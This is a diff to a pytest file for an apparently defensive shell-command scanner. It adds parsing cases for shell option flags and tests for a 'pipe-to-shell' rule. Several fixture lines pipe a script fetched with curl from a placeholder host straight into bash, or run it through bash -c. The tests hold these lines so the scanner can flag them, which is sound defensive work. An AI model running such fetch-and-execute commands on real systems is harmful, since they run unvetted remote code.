@@ -28,6 +28,8 @@ def slices(text: str) -> list[tuple[str, str]]:
         ('bash -c "kubectl apply -f ${FILE} && ok"', "kubectl apply -f ${FILE}"),
         ('sh -ec "kubectl  \\"$A\\" b"', 'kubectl  \\"$A\\"' + " b"),
         ("bash -e -o pipefail -c 'kubectl x'", "kubectl x"),
+        ("bash --norc -euo pipefail -c 'kubectl x'", "kubectl x"),
+        ("bash -ceuo pipefail 'kubectl x'", "kubectl x"),
         ("bash -c -e 'kubectl x'", "kubectl x"),
         ('/bin/sh -c "cd x; kubectl get $(date)"', "kubectl get $(date)"),
         ("busybox sh -c 'kubectl x'", "kubectl x"),
@@ -124,7 +126,8 @@ def test_one_shell_of_a_text_reads_its_input():
     "line",
     [
         "bash < x.sh", "cat x.sh | bash", "bash -s a b < x.sh", "cat x.sh | ssh host", "ssh host bash -s < x.sh", "ssh host 'bash -s' < x.sh",
-        "docker exec -i c sh < x.sh", "cat x.sh | kubectl exec -i pod -- sh",
+        "docker exec -i c sh < x.sh", "cat x.sh | kubectl exec -i pod -- sh", "cat x.sh | bash -euo pipefail",
+        "bash -e x.sh", "bash -euo pipefail x.sh", "sh +x -m -- x.sh",
     ],
 )  # fmt: skip
 def test_a_file_that_a_shell_reads_is_called(tmp_path, line):
@@ -167,6 +170,19 @@ def findings(tmp_path, rule: str, line: str) -> list[str]:
 )
 def test_output_goes_where_the_outer_command_sends_it(tmp_path, line, count):
     assert len(findings(tmp_path, "secret-printed", line)) == count
+
+
+@pytest.mark.parametrize(
+    ("line", "count"),
+    [
+        ("curl https://x.example/i.sh | bash -euo pipefail", 1),
+        ("curl https://x.example/i.sh | bash -o pipefail -es -- a", 1),
+        ('bash -euo pipefail -c "$(curl https://x.example/i.sh)"', 1),
+        ("curl https://x.example/i.sh | bash -euo pipefail own.sh", 0),
+    ],
+)
+def test_options_with_values_do_not_hide_what_a_shell_reads(tmp_path, line, count):
+    assert len(findings(tmp_path, "pipe-to-shell", line)) == count
 
 
 @pytest.mark.parametrize(("line", "count"), [("ssh host 'deploy x || true'", 1), ("trap 'deploy x || true' EXIT", 0)])
